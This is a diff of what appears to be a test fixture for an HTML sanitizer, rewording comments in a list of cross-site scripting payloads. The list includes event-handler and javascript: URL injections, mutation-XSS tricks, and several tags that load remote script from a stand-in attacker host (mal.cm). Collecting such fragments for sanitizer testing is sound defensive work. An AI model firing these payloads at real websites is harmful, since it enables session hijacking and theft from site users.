@@ -1,6 +1,6 @@
 /**
- * HTML that wants to run something: what the public cheat sheets of cross-site scripting list, in our own words, and what our own markup invites
- * to. Each is meant to stand between two sentences.
+ * HTML fragments that try to run scripts: the cases of public XSS cheat sheets, rewritten, and attacks on our own markup. Each can be
+ * placed between two sentences.
  */
 export const hostileFragments = [
   '<script>alert(1)</script>',
@@ -74,7 +74,7 @@ export const hostileFragments = [
   '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
   '<marquee onstart=alert(1)>x</marquee><isindex type=image src=1 onerror=alert(1)>',
   '<portal src="javascript:alert(1)"></portal><frameset onload=alert(1)></frameset>',
-  // Scripts that are not closed, or not where one expects them.
+  // Scripts that are unclosed or closed in unexpected positions.
   '<script>alert(1)',
   '<SCRIPT SRC=https://mal.cm/xss.js?< B >',
   '<SCRIPT SRC=//mal.cm/.j>',
@@ -88,7 +88,7 @@ export const hostileFragments = [
   '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://mal.cm/xss.js"></SCRIPT>',
   '<SCRIPT a=">" SRC="https://mal.cm/xss.js"></SCRIPT>',
   '<script>/*<p>*/alert(1)/*</p>*/</script>',
-  // Tags and attributes cut off in the middle.
+  // Truncated tags and attributes.
   '<IMG SRC="javascript:alert(\'XSS\')"',
   '<img src=x onerror=alert(1) ',
   '<iframe src=https://mal.cm/scriptlet.html <',
@@ -115,7 +115,7 @@ export const hostileFragments = [
   '<button onclick=alert(1)>x',
   '<template><script>alert(1)</script>',
   '<svg><desc><table><thead><title><math><style><img title="</style></math><img src=x onerror=alert(1)>',
-  // Handlers of every kind.
+  // Event handlers of all kinds.
   '<body onload=alert(1)>',
   '<body onpageshow=alert(1)>',
   '<body background="javascript:alert(1)">',
@@ -140,7 +140,7 @@ export const hostileFragments = [
   '<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>x</button>',
   '<div contenteditable onbeforeinput=alert(1)>x</div>',
   '<h1 draggable=true ondragstart=alert(1)>x</h1>',
-  // Addresses in every disguise.
+  // Disguised javascript: URLs.
   '<a href="JAVASCRIPT&colon;alert(1)">x</a>',
   '<a href="javascript&#0058;alert(1)">x</a>',
   '<a href="jav&#x0A;ascript:alert(1)">x</a>',
@@ -182,7 +182,7 @@ export const hostileFragments = [
   '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml" AllowScriptAccess=always>',
   '<applet code="javascript:alert(1)"></applet>',
   '<blockquote cite="javascript:alert(1)">x</blockquote><q cite="javascript:alert(1)">x</q><ins cite="javascript:alert(1)">x</ins>',
-  // Other namespaces, and markup that changes when it is read again.
+  // Other namespaces, and markup that changes when it is parsed again.
   '<svg/onload=alert(1)>',
   '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
   '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text x=20 y=20>x</text></a></svg>',
@@ -206,7 +206,7 @@ export const hostileFragments = [
   '<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1);">]]></c></x></xml>',
   '<a id=attributes><a id=attributes name=nodeName><input name=parentNode>',
   '<form id=x><input name=attributes><input name=childNodes><input name=innerHTML></form>',
-  // Styles, frames, pages.
+  // Styles, frames, documents.
   '<div style="background-image:url(javascript:alert(1))">x</div>',
   '<div style="width:expression(alert(1))">x</div>',
   '<div style="-moz-binding:url(https://mal.cm/x.xml#xss)">x</div>',
@@ -225,7 +225,7 @@ export const hostileFragments = [
   '<frameset><frame src="javascript:alert(1)"></frameset>',
   '<layer src="https://mal.cm/a.html"></layer><ilayer src="https://mal.cm/a.html"></ilayer>',
   '<dialog open onclose=alert(1)>x</dialog><progress onclick=alert(1)></progress>',
-  // What the schema itself writes, with something in it.
+  // The schema's own markup with injected content.
   '<div class="video" data-video="javascript:alert(1)"><a href="javascript:alert(1)">x</a></div>',
   '<div class="video" data-video="https://www.youtube.com/watch?v=dQw4w9WgXcQ" data-title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" onclick=alert(1)></div>',
   '<div class="video" data-video="https://exemple.cm/a.mp4?&quot;onload=alert(1)//.mp4"></div>',
